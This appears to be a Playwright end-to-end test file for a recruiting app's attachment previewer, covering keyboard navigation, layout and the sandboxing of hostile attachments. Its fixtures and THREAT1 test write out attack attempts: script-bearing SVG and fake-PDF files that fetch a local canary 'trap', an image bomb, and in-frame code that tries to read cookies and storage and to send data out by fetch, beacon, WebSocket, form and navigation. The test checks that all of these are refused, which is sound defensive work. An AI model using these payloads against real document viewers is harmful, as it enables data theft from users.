// A file is read where it lies (M-9): beside what one reads where there is room, else over it; by keys
// alone; and a file that means harm reaches nothing.
import assert from 'node:assert/strict';
import http from 'node:http';
import { setTimeout } from 'node:timers/promises';
import { after, before, test } from 'node:test';
import { hostilePdf, letterPdf, lockedPdf, manyPages, png, slowPdf, swellingPdf } from './files.mjs';
import { build, candidateAddress, connect, openBrowser, openStage, recruiter, until } from './stage.mjs';

let stage, url, tabOf, shoot, fits, canary;
const heard = []; // by the canary: what left the browser
const asked = []; // of anybody, by the browser
const cv = letterPdf([['Jane Doe', 'Curriculum vitae'], ['Second page'], ['Third page']]);
const letter = async (at, subject, attachments, more = {}) => {
  const date = new Date(Date.now() - at * 3_600_000);
  return { date, flags: ['\\Seen'], raw: await build({ messageId: `<${at}@post.example>`, from: `Jane Doe <${candidateAddress}>`, to: recruiter, date, subject, text: `About ${subject}`, attachments, ...more }) };
};
before(async () => {
  canary = http.createServer((request, response) => { heard.push(request.url); response.end('caught'); });
  await new Promise((ready) => canary.listen(0, '127.0.0.1', ready));
  const trap = `http://127.0.0.1:${canary.address().port}`;
  stage = await openStage('preview', { extra: ['--fast-retries'] });
  stage.closing.add(() => canary.close());
  url = stage.hearback.url;
  await stage.mail.append(recruiter, [
    await letter(30, 'Hostile files', [
      { filename: 'acts.pdf', content: hostilePdf(trap) },
      { filename: 'many.pdf', content: manyPages(10_000) },
      { filename: 'bomb.png', content: png(30_000, 30_000, 1) },
      { filename: 'swells.pdf', content: swellingPdf() },
      { filename: 'drawing.svg', contentType: 'image/svg+xml', content: `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("${trap}/svg")</script></svg>` },
      { filename: 'page.pdf', contentType: 'application/pdf', content: `<html><script>fetch("${trap}/html")</script></html>` },
    ]),
    await letter(25, 'A slow file', [{ filename: 'slow.pdf', content: slowPdf() }]),
    await letter(20, 'My application', [
      { filename: 'CV Jane Doe.pdf', content: cv },
      { filename: 'portrait.png', content: png(600, 800) },
      { filename: 'cut off.pdf', content: cv.subarray(0, 150) },
      { filename: 'locked.pdf', content: lockedPdf() },
      { filename: 'no picture.png', content: Buffer.concat([png(40, 40).subarray(0, 40), Buffer.alloc(200, 7)]) },
      { filename: 'references.docx', content: 'PK not really' },
    ]),
  ]);
  await connect(stage.api, stage.mail);
  ({ tabOf, shoot, fits } = await openBrowser(stage, 900));
}, { timeout: 600_000 });
after(() => stage?.closing.close());

const ready = (tab) => tab.locator('.preview iframe.there');
const pageOf = (tab) => tab.frameLocator('.preview iframe');
const shown = async (tab, text) => { await ready(tab).waitFor(); await pageOf(tab).getByText(text).first().waitFor(); };
const chip = (tab, name) => tab.locator('.split-main .files').getByRole('button', { name });
const atMost = (what, promise, milliseconds = 20_000) => Promise.race([promise, setTimeout(milliseconds, undefined, { ref: false }).then(() => { throw new Error(`${what} takes too long`); })]);
/** A key while a file is shown: where the frame that has the focus goes before the browser has said that the key was dealt with, it never says so. What the key did is seen in what follows. */
async function press(tab, key) {
  for (const way of ['down', 'up']) {
    const said = tab.keyboard[way](key);
    said.catch(() => {}); // where the test has failed already
    await Promise.race([said, setTimeout(2000, undefined, { ref: false })]);
  }
}
const focusIn = (tab, which) => until(`the focus is in ${which}`, () => tab.evaluate((where) => Boolean(document.activeElement?.closest(where)), which));
/** The page has put it there, and the browser, whose keys they are, has followed: the frame is another process. */
const focusInFile = async (tab) => {
  await focusIn(tab, '.preview iframe');
  await until('the file has the focus', () => frameOf(tab).evaluate(() => document.hasFocus()));
};
/** Where it isn't shown: who had the keys. */
const pageRead = (tab, page) => tab.locator('.preview-bar').getByText(`${page} / 3`).waitFor().catch(async (error) => {
  const has = await tab.evaluate(() => document.activeElement?.cloneNode().outerHTML);
  throw new Error(`Page ${page} isn’t shown; the focus is in ${has}`, { cause: error });
});
/** As a person goes there: what nobody puts there is given back. */
async function intoFile(tab) {
  await ready(tab).waitFor();
  const { x, y, width, height } = await tab.locator('.preview iframe').boundingBox();
  const middle = [x + width / 2, y + height / 2];
  await tab.mouse.move(middle[0] + 5, middle[1] + 5);
  await tab.mouse.move(...middle);
  await tab.mouse.click(...middle);
  await focusIn(tab, '.preview iframe');
}
const frameOf = (tab) => tab.frames().find((one) => one.url().includes('/reader/'));
/** What a script in there could do, if one ran by a mistake of the reader's. */
const takesFocus = (tab) => frameOf(tab).evaluate(() => { const field = document.createElement('input'); document.body.append(field); field.focus(); });
/** And let go of it at once. */
const takesAndDrops = (tab) => frameOf(tab).evaluate(() => { focus(); parent.focus(); });
const says = (tab, key) => frameOf(tab).evaluate((which) => { for (let times = 0; times < 5; times++) dispatchEvent(new KeyboardEvent('keydown', { key: which })); }, key);
const threadOf = async (subject) => (await stage.api.all(`/threads?candidate=${stage.candidate.id}`)).find((one) => one.subject === subject);
async function opened(tab, subject) {
  const threads = await stage.api.all(`/threads?candidate=${stage.candidate.id}`);
  await tab.goto(`${url}/inbox/${threads.find((one) => one.subject === subject).id}`);
  await tab.locator('.message.open .files').waitFor();
}
const drawn = (tab, page) => until(`page ${page} is drawn`, () => pageOf(tab).locator(`.page[data-page="${page}"]`).evaluate((box) => {
  const canvas = box.querySelector('canvas');
  if (!canvas) return false;
  const { data } = canvas.getContext('2d').getImageData(0, 0, canvas.width, canvas.height);
  for (let at = 0; at < data.length; at += 4) if (data[at] < 128 && data[at + 3] > 128) return true;
  return false;
}));

test('M-9 a CV is read beside the conversation, or over it, by keys alone', { timeout: 600_000 }, async () => {
  for (const [width, language, dark] of [[1440, 'en', false], [390, 'de', true], [1279, 'fr', true], [1920, 'fr', false]]) {
    const tab = await tabOf(width, { language, dark });
    await opened(tab, 'My application');
    const first = chip(tab, /CV Jane Doe/);
    await first.focus();
    await tab.keyboard.press('Enter');
    await shown(tab, 'Curriculum vitae');
    await drawn(tab, 1);
    assert.equal(await tab.getByRole('dialog').count(), width < 1280 ? 1 : 0);
    await pageRead(tab, 1);
    await focusInFile(tab);
    await fits(tab);
    await shoot(tab, `cv-${width}-${language}`);
    // Its keys scroll, and the number follows.
    await press(tab, 'End');
    await pageRead(tab, 3);
    await drawn(tab, 3);
    const wide = () => pageOf(tab).locator('.page').first().evaluate((box) => box.getBoundingClientRect().width);
    const before = await wide();
    await tab.keyboard.press('z');
    await until('it has its actual size', async () => Math.abs((await wide()) - 816) <= 1);
    await tab.keyboard.press('z');
    await until('it is as wide as its room', async () => Math.abs((await wide()) - before) <= 1);
    // The next ones, round and back.
    await press(tab, 'ArrowRight');
    const picture = tab.locator('.preview-picture img');
    await picture.waitFor();
    assert.equal(await picture.evaluate(async (image) => { await image.decode(); return image.naturalWidth; }), 600);
    await focusIn(tab, '.preview, [role=dialog]');
    await shoot(tab, `picture-${width}-${language}`);
    const next = async (words) => { await press(tab, 'ArrowRight'); await tab.locator('.preview-sorry').getByText(words).waitFor().catch(async (error) => { await shoot(tab, 'failed'); throw error; }); };
    if (language === 'en') {
      await next('This PDF is damaged or not complete');
      await next('This PDF is locked with a password');
      await shoot(tab, `locked-${width}-${language}`);
      await next('This picture can’t be shown');
      await next('DOCX files can’t be shown here');
      await press(tab, 'ArrowRight');
      await shown(tab, 'Curriculum vitae');
    }
    await press(tab, 'Escape');
    await tab.locator('.preview').waitFor({ state: 'detached' });
    await until('the chip has the focus again', () => first.evaluate((one) => one === document.activeElement));
    await tab.context().close();
  }
});

test('M-9 each file can be saved from where it is looked at', { timeout: 600_000 }, async () => {
  const tab = await tabOf(1440);
  await opened(tab, 'My application');
  await chip(tab, /CV Jane Doe/).click();
  const [download] = await Promise.all([tab.waitForEvent('download'), tab.locator('.preview-bar').getByRole('link', { name: 'Download CV Jane Doe.pdf' }).click()]);
  assert.equal(download.suggestedFilename(), 'CV Jane Doe.pdf');
  // What can't be looked at is saved at once.
  await shown(tab, 'Curriculum vitae');
  await press(tab, 'Escape');
  const [other] = await Promise.all([tab.waitForEvent('download'), tab.locator('.split-main .files').getByRole('link', { name: /references\.docx/ }).click()]);
  assert.equal(other.suggestedFilename(), 'references.docx');
  await tab.context().close();
});

test('M-9 the card gives its place to the CV, and this is remembered', { timeout: 600_000 }, async () => {
  const tab = await tabOf(1920);
  await tab.goto(`${url}/candidates/${stage.candidate.id}`);
  const card = tab.locator('.beside aside.card');
  await card.locator('.card-files button').first().waitFor();
  assert.match(await card.locator('.card-files').innerText(), /^CV Jane Doe\.pdf/, 'the CV first');
  await tab.getByRole('group', { name: 'Beside the conversation' }).getByRole('button', { name: 'File' }).press('Enter');
  await shown(tab, 'Curriculum vitae');
  await card.waitFor({ state: 'detached' });
  await shoot(tab, 'profile-1920');
  await opened(tab, 'My application');
  await shown(tab, 'Curriculum vitae');
  assert.equal(await tab.evaluate(() => document.activeElement?.closest('.beside')), null, 'nobody is taken there');
  await tab.locator('.split-list a.thread-row').first().focus();
  for (const pane of ['.pane-body', '.preview', '.rail']) {
    await tab.keyboard.press('F6');
    await focusIn(tab, pane);
  }
  // Out of the file, too.
  await intoFile(tab);
  await tab.keyboard.press('F6');
  await focusIn(tab, '.rail');
  await tab.getByRole('group', { name: 'Beside the conversation' }).getByRole('button', { name: 'Candidate' }).click();
  await card.waitFor();
  await tab.reload();
  await card.waitFor();
  assert.equal(await tab.locator('.preview').count(), 0);
  await tab.context().close();
});

const boxes = (tab) => tab.evaluate(() => Object.fromEntries(['.rail', '.split-list', '.split-main > .pane', '.beside'].map((which) => {
  const { left, width } = document.querySelector(which).getBoundingClientRect();
  return [which, [left, width].map(Math.round)];
})));
const subjectIs = (tab, subject) => tab.locator('.thread-head h1').getByText(subject, { exact: true }).waitFor();

test('M-9 on a laptop the letter, its CV and what is next stand side by side', { timeout: 600_000 }, async () => {
  for (const width of [1280, 1440, 1600]) {
    const tab = await tabOf(width);
    await opened(tab, 'My application');
    assert.equal((await tab.locator('.rail').boundingBox()).width, 212);
    await chip(tab, /CV Jane Doe/).click();
    await shown(tab, 'Curriculum vitae');
    await drawn(tab, 1);
    await fits(tab);
    await shoot(tab, `laptop-${width}`);
    const before = await boxes(tab);
    const { '.split-list': list, '.split-main > .pane': pane, '.beside': file } = before;
    assert.ok(list[1] >= 260 && pane[1] >= 460 && file[1] >= 480, JSON.stringify(before));
    assert.ok(list[0] + list[1] <= pane[0] && pane[0] + pane[1] <= file[0] && file[0] + file[1] <= width, JSON.stringify(before));
    // Going on moves none of them.
    await tab.locator('.split-list .thread-row[aria-current]').focus();
    await tab.keyboard.press('j');
    await subjectIs(tab, 'A slow file');
    await tab.locator('.preview').waitFor();
    assert.deepEqual(await boxes(tab), before);
    await tab.keyboard.press('k');
    await subjectIs(tab, 'My application');
    await shown(tab, 'Curriculum vitae');
    await focusIn(tab, '.split-list .thread-row[aria-current]');
    // It is remembered, until it is closed.
    await tab.reload();
    await shown(tab, 'Curriculum vitae');
    assert.deepEqual(await boxes(tab), before);
    await tab.locator('.preview-head').getByRole('button', { name: 'Close' }).click();
    await tab.locator('.preview').waitFor({ state: 'detached' });
    assert.equal((await tab.locator('.rail').boundingBox()).width, 212);
    assert.equal(await tab.locator('.beside aside.card').count(), width < 1340 ? 0 : 1);
    await tab.context().close();
  }
  // Where the card is a drawer, its files come over it.
  const tab = await tabOf(1280);
  await opened(tab, 'My application');
  await tab.getByRole('button', { name: 'Show the candidate' }).click();
  await tab.getByRole('dialog').locator('.card-files').getByRole('button', { name: /CV Jane Doe/ }).click();
  await tab.getByRole('dialog', { name: 'CV Jane Doe.pdf' }).waitFor();
  await shown(tab, 'Curriculum vitae');
  await tab.context().close();
});

test('THREAT13 a file that keeps its frame busy doesn’t keep the keys', { timeout: 600_000 }, async () => {
  const tab = await tabOf(1440);
  await opened(tab, 'A slow file');
  // Whatever is being written beside it.
  await tab.locator('.split-list .thread-row[aria-current]').press('r');
  await focusIn(tab, '.composer [contenteditable]');
  await chip(tab, /slow\.pdf/).focus();
  await tab.keyboard.press('Enter');
  await focusIn(tab, '.preview iframe');
  await until('the keys go to what holds it', () => tab.evaluate(() => document.activeElement?.matches('.preview')));
  assert.equal(await tab.locator('.preview iframe').count(), 1, 'it is still being drawn');
  await press(tab, 'Escape');
  await tab.locator('.preview').waitFor({ state: 'detached' });
  await until('the chip has the focus again', () => chip(tab, /slow\.pdf/).evaluate((one) => one === document.activeElement));
  await tab.context().close();
});

test('M-9 what scrolls is not lost while the file is busy', { timeout: 600_000 }, async () => {
  const tab = await tabOf(1440);
  await opened(tab, 'My application');
  await chip(tab, /CV Jane Doe/).press('Enter');
  await shown(tab, 'Curriculum vitae');
  await focusInFile(tab);
  const busy = frameOf(tab).evaluate(() => { for (const until = Date.now() + 5000; Date.now() < until; ); });
  await until('the keys go to what holds it', () => tab.evaluate(() => document.activeElement?.matches('.preview')));
  await tab.keyboard.press('End');
  await busy;
  await pageRead(tab, 3);
  await focusInFile(tab);
  await press(tab, 'Home');
  await pageRead(tab, 1);
  await tab.context().close();
});

test('THREAT1 a file that takes the focus from what is being written gives it back', { timeout: 600_000 }, async () => {
  const tab = await tabOf(1920);
  await opened(tab, 'My application');
  await tab.getByRole('group', { name: 'Beside the conversation' }).getByRole('button', { name: 'File' }).click();
  await shown(tab, 'Curriculum vitae');
  const { triage } = await threadOf('My application');
  await tab.locator('.split-list .thread-row[aria-current]').press('r');
  const text = tab.locator('.composer [contenteditable]');
  await focusIn(tab, '.composer [contenteditable]');
  const box = await tab.locator('.preview iframe').boundingBox();
  const middle = [box.x + box.width / 2, box.y + box.height / 2];
  // Wherever the pointer rests: at first beside the file, then over it.
  for (const [words, at] of [['e u r', [300, 300]], [' j k F', middle]]) {
    await tab.mouse.move(...at);
    await tab.keyboard.type('-');
    for (const key of ['e', 'j', 'F6', 'Escape', 'ArrowRight']) {
      await takesFocus(tab);
      await says(tab, key);
      await tab.waitForTimeout(600); // who does it more often is taken away
      await focusIn(tab, '.composer [contenteditable]');
    }
    await takesAndDrops(tab);
    await tab.waitForTimeout(600);
    await focusIn(tab, '.composer [contenteditable]');
    await tab.keyboard.type(words);
  }
  assert.match(await text.innerText(), /-e u r- j k F/);
  await focusIn(tab, '.composer [contenteditable]');
  await shown(tab, 'Curriculum vitae');
  await subjectIs(tab, 'My application');
  assert.equal((await threadOf('My application')).triage, triage);
  // The wheel turns its pages nevertheless; and who presses something in it is there at once, and back by Escape.
  tab.mouse.wheel(0, 3000).catch(() => {}); // whether it got there is seen
  await tab.locator('.preview-bar').getByText('3 / 3').waitFor();
  await intoFile(tab);
  await tab.waitForTimeout(500);
  await focusIn(tab, '.preview iframe');
  await press(tab, 'Escape');
  await tab.locator('.preview').waitFor({ state: 'detached' });
  await focusIn(tab, '.composer [contenteditable]');
  await tab.context().close();
});

test('THREAT1 what is typed in a field is no shortcut when a file takes the focus from it', { timeout: 600_000 }, async () => {
  const tab = await tabOf(1920);
  const { id, triage } = await threadOf('My application');
  await tab.goto(`${url}/search/${id}?q=application`);
  await tab.getByRole('group', { name: 'Beside the conversation' }).getByRole('button', { name: 'File' }).click();
  await shown(tab, 'Curriculum vitae');
  const box = tab.locator('.search-box input');
  await box.click();
  await tab.keyboard.press('End');
  await takesAndDrops(tab);
  await tab.waitForTimeout(600);
  await focusIn(tab, '.search-box');
  await tab.keyboard.type(' re');
  assert.equal(await box.inputValue(), 'application re');
  assert.equal(await tab.locator('.composer').count(), 0);
  assert.equal((await threadOf('My application')).triage, triage);
  await tab.context().close();
});

for (const [how, act] of [['', () => { focus(); }], [' and lets go of it', () => { focus(); parent.focus(); }]]) test(`THREAT1 a file that takes the focus again and again${how} is taken away`, { timeout: 600_000 }, async () => {
  const tab = await tabOf(1920);
  await opened(tab, 'My application');
  await tab.getByRole('group', { name: 'Beside the conversation' }).getByRole('button', { name: 'File' }).click();
  await shown(tab, 'Curriculum vitae');
  await tab.locator('.split-list .thread-row[aria-current]').press('r');
  await focusIn(tab, '.composer [contenteditable]');
  await frameOf(tab).evaluate(`setInterval(${act}, 10)`);
  await tab.locator('.preview-sorry').waitFor();
  await focusIn(tab, '.composer [contenteditable]');
  await tab.keyboard.type('All of it');
  assert.match(await tab.locator('.composer [contenteditable]').innerText(), /All of it/);
  await tab.context().close();
});

test('THREAT1 a file reaches nothing: not the page, not the server, not the world', { timeout: 600_000 }, async () => {
  const tab = await tabOf(1440);
  tab.context().on('request', (request) => asked.push(request.url()));
  const dialogs = [];
  tab.on('dialog', (dialog) => { dialogs.push(dialog.message()); void dialog.dismiss(); });
  await opened(tab, 'Hostile files');
  await chip(tab, /acts\.pdf/).click();
  await shown(tab, 'Harmless words');
  await pageOf(tab).locator('.page').first().click({ position: { x: 100, y: 100 } });
  await pageOf(tab).locator('.page').first().click({ position: { x: 300, y: 300 } });
  // Even one who could run scripts in there, by a mistake of the reader's, would stand before walls.
  const frame = tab.frames().find((one) => one.url().includes('/reader/'));
  const trap = `http://127.0.0.1:${canary.address().port}`;
  const tried = await atMost('trying all doors', frame.evaluate(async ({ trap, url }) => {
    const tries = {
      origin: () => self.origin,
      cookie: () => document.cookie,
      storage: () => localStorage.length,
      page: () => parent.document.title,
      api: async () => (await fetch(`${url}/api/v1/me`)).status,
      world: async () => (await fetch(`${trap}/fetch`)).status,
      beacon: () => navigator.sendBeacon(`${trap}/beacon`, 'x') && Promise.reject(new Error('queued')),
      socket: () => new Promise((resolve, reject) => { const socket = new WebSocket(trap.replace('http', 'ws')); socket.onopen = resolve; socket.onerror = () => reject(new Error('closed')); }),
      picture: () => new Promise((resolve, reject) => { const image = new Image(); image.onload = resolve; image.onerror = () => reject(new Error('blocked')); image.src = `${trap}/picture`; }),
      // biome-ignore lint/security/noGlobalEval: that it is refused is the point
      eval: () => eval('1'),
      markup: () => { document.createElement('div').innerHTML = '<b>x</b>'; },
      window: () => { if (!window.open(`${trap}/window`)) throw new Error('refused'); },
      top: () => { top.location.href = `${trap}/top`; },
      form: () => new Promise((_, reject) => { const form = document.createElement('form'); form.action = `${trap}/submit`; document.body.append(form); form.submit(); setTimeout(() => reject(new Error('refused')), 300); }),
    };
    const told = {};
    for (const [name, attempt] of Object.entries(tries)) {
      try { told[name] = `${await attempt()}`; } catch (error) { told[name] = `refused: ${error.name}`; }
    }
    return told;
  }, { trap, url }));
  assert.equal(tried.origin, 'null');
  delete tried.origin;
  for (const [name, answer] of Object.entries(tried)) assert.match(answer, /^refused/, `${name}: ${answer}`);
  await atMost('going away', frame.evaluate((to) => { location.href = to; }, `${trap}/away`).catch(() => {}));
  await tab.waitForTimeout(500);
  await tab.locator('.preview-head').getByRole('button', { name: 'Close' }).click();

  // Very many pages: as many as a window has room for, and it says so.
  await chip(tab, /many\.pdf/).click();
  await shown(tab, 'One of very many');
  await tab.locator('.preview-bar').getByText('1 / 10,000').waitFor();
  await tab.getByText('The first 2,000 of 10,000 pages are shown.').waitFor();
  await press(tab, 'End');
  await tab.locator('.preview-bar').getByText('2,000 / 10,000').waitFor();
  await drawn(tab, 2000);
  await until('what was scrolled past is let go', async () => (await pageOf(tab).locator('.page canvas').count()) <= 8); // beside one that the words are measured by
  await shoot(tab, 'many-1440');
  // A picture that would take a gigabyte.
  await press(tab, 'ArrowRight');
  await tab.getByText('This picture is too large to be shown here: 30,000 × 30,000 pixels.').waitFor();
  await shoot(tab, 'bomb-1440');
  // A PDF that does: whatever it shows, the page goes on.
  await press(tab, 'ArrowRight');
  await ready(tab).or(tab.locator('.preview-sorry')).first().waitFor();
  await tab.locator('.preview-bar').getByText('4 of 6').waitFor();
  await shoot(tab, 'swells-1440');
  // One of many frames comes at once: a page that is held up has none, a machine that is has some.
  await until('a frame of the page at once', async () => await tab.evaluate(async () => { const begun = performance.now(); await new Promise((go) => requestAnimationFrame(() => setTimeout(go))); return performance.now() - begun; }) < 500);
  // Neither of these is what it says.
  await tab.locator('.preview-bar').getByRole('button', { name: 'Next file' }).click();
  await tab.locator('.preview-sorry').getByText('SVG files can’t be shown here').waitFor();
  await press(tab, 'ArrowRight');
  await tab.locator('.preview-sorry').getByText('This PDF is damaged').waitFor();
  await press(tab, 'Escape');
  await tab.locator('.preview').waitFor({ state: 'detached' });
  await chip(tab, /acts\.pdf/).waitFor();

  assert.deepEqual(dialogs, []);
  assert.equal(tab.context().pages().length, 1, 'no window was opened');
  assert.deepEqual(heard, [], 'nothing left the browser');
  const elsewhere = asked.filter((one) => !one.startsWith(url) && !one.startsWith('blob:') && !one.startsWith('data:'));
  assert.deepEqual(elsewhere.filter((one) => !one.startsWith(trap)), []);
  // What the frame itself asked for came by the page's hand, but for what the reader consists of.
  const byFrame = asked.filter((one) => one.includes('/reader/')).map((one) => new URL(one).pathname);
  for (const path of byFrame) assert.match(path, /^\/reader\/(?:reader\.(?:html|js)|worker\.js|(?:cmaps|fonts|wasm)\/[\w.-]+)$/);
  await tab.context().close();
});
